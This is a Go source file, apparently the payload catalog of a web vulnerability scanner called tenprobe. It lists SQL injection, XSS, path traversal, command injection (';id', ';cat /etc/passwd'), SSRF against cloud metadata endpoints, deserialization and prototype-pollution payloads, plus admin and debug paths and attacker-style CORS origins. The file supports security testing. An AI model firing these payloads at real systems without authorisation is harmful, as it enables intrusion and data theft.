// pkg/payload/catalog.go
package payload

// SQLi returns classic boolean/union SQL injection payloads ordered from
// cheapest to most specific. Modules stop at the first confirmed match.
func SQLi() []string {
	return []string{
		"'",
		"\"",
		"' OR '1'='1",
		"' OR 1=1--",
		"1' OR '1'='1' --",
		"' OR ''='",
		"') OR ('1'='1",
		"' UNION SELECT NULL--",
		"' UNION SELECT NULL,NULL--",
		"1' ORDER BY 1--",
	}
}

// XSS returns reflected-XSS probe payloads. Each carries a unique marker so
// reflection checks do not trip on pre-existing page content.
func XSS() []string {
	return []string{
		`<script>alert('tenprobe')</script>`,
		`"><script>alert('tenprobe')</script>`,
		`'><img src=x onerror=alert('tenprobe')>`,
		`<svg onload=alert('tenprobe')>`,
		`javascript:alert('tenprobe')`,
	}
}

// PathTraversal returns directory traversal payloads targeting well-known
// sensitive files, including encoded and double-encoded variants.
func PathTraversal() []string {
	return []string{
		"../../../etc/passwd",
		"../../../../../../etc/passwd",
		"..%2f..%2f..%2fetc%2fpasswd",
		"..%252f..%252f..%252fetc%252fpasswd",
		"....//....//....//etc/passwd",
		"../../../windows/win.ini",
		"..\\..\\..\\windows\\win.ini",
	}
}

// CommandInjection pairs shell metacharacter payloads with the output
// signature each one produces when the injected command executes.
type CommandPayload struct {
	Value      string
	Indicators []string
}

// CommandInjections returns command injection payloads across common shell
// separators for Unix and Windows targets.
func CommandInjections() []CommandPayload {
	return []CommandPayload{
		{Value: ";id", Indicators: []string{"uid=", "gid=", "groups="}},
		{Value: "|id", Indicators: []string{"uid=", "gid="}},
		{Value: "`id`", Indicators: []string{"uid=", "gid="}},
		{Value: "$(id)", Indicators: []string{"uid=", "gid="}},
		{Value: ";whoami", Indicators: []string{"root", "www-data", "daemon"}},
		{Value: "&dir&", Indicators: []string{"<DIR>", "Volume Serial Number"}},
		{Value: ";cat /etc/passwd", Indicators: []string{"root:x:", "/bin/"}},
	}
}

// SSRF returns server-side request forgery payloads pointing at loopback,
// link-local cloud metadata endpoints, and file URIs.
func SSRF() []string {
	return []string{
		"http://127.0.0.1/",
		"http://localhost/",
		"http://[::1]/",
		"http://169.254.169.254/latest/meta-data/",
		"http://metadata.google.internal/computeMetadata/v1/",
		"file:///etc/passwd",
		"http://127.0.0.1:6379/",
		"http://127.0.0.1:22/",
	}
}

// Deserialization returns serialized-object-like payloads that trigger
// deserialization error signatures in vulnerable stacks: PHP serialized
// forms, a Java serialized stream prefix, and prototype-pollution JSON.
func Deserialization() []string {
	return []string{
		`O:8:"stdClass":1:{s:4:"test";s:4:"test";}`,
		`a:2:{i:0;s:4:"test";i:1;i:1;}`,
		"\xac\xed\x00\x05t\x00\x04test",
		`{"__proto__":{"polluted":"tenprobe"}}`,
		`{"constructor":{"prototype":{"polluted":"tenprobe"}}}`,
	}
}

// AdminPaths returns common admin and management paths for forced-browsing
// probes.
func AdminPaths() []string {
	return []string{
		"/admin",
		"/admin/",
		"/administrator",
		"/admin/login",
		"/manage",
		"/management",
		"/console",
		"/wp-admin",
		"/phpmyadmin",
		"/.git/config",
		"/config.php.bak",
		"/backup",
	}
}

// ListingPaths returns paths commonly left browsable by misconfigured
// servers, used for directory-listing probes.
func ListingPaths() []string {
	return []string{
		"/",
		"/uploads/",
		"/images/",
		"/files/",
		"/static/",
		"/backup/",
		"/assets/",
	}
}

// DebugPaths returns conventional debug/trace endpoints probed by the
// logging-failures module.
func DebugPaths() []string {
	return []string{
		"/debug",
		"/debug/vars",
		"/debug/pprof/",
		"/trace",
		"/actuator",
		"/actuator/env",
		"/elmah.axd",
	}
}

// CORSOrigins returns Origin header values used to probe reflected-origin
// and wildcard CORS policies.
func CORSOrigins() []string {
	return []string{
		"https://evil.example.com",
		"null",
		"https://attacker.tenprobe.invalid",
	}
}

// SensitiveURLKeywords lists credential-looking keywords that must never
// appear literally in a URL.
func SensitiveURLKeywords() []string {
	return []string{
		"password=",
		"passwd=",
		"pwd=",
		"token=",
		"api_key=",
		"apikey=",
		"secret=",
		"auth=",
	}
}
